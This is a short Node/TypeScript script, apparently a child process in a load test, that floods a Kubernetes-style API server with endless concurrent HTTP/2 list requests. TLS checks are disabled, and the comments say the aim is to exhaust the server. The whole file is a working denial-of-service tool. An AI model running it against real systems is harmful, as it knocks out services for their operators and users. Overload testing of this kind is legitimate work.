// One client that asks for more than it could ever use, in a process of its own: so many lists at once, for ever.

import * as http2 from "node:http2";

const [url = "", sessions = "4", streams = "150"] = process.argv.slice(2);
for (let index = 0; index < Number(sessions); index++) {
  const session = http2.connect(url, { rejectUnauthorized: false });
  session.on("error", () => process.exit());
  const ask = () => {
    // Much to look at and little to send: the server is what it wears out, not this client.
    const path = "/api/v1/namespaces/default/configmaps?labelSelector=number=none";
    const stream = session.request({ ":path": path, authorization: "Bearer flood" });
    stream.on("data", () => {});
    stream.on("error", () => {});
    stream.once("close", ask);
  };
  for (let each = 0; each < Number(streams); each++) ask();
}
process.send!("flooding");
